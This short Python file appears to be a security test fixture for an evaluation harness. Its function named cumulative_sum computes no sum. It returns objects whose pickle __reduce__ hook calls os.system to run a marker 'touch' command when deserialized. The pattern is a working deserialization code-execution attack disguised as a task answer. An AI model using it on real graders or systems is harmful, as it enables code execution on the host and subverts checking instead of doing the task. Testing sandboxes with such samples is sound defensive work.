import os


class Answer:
    def __reduce__(self):
        return os.system, ("touch /tmp/nnkit-attack-a10",)

    __reduce_ex__ = lambda self, version: self.__reduce__()


def cumulative_sum(x):
    return [Answer(), {"answer": Answer()}]
